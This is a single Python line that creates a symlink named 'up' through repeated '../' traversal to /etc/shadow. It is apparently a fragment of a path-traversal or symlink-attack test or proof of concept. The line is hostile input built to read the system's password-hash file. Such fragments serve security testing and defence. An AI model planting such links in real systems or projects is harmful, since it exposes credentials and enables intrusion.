os.symlink("../../../../etc/shadow", "up")
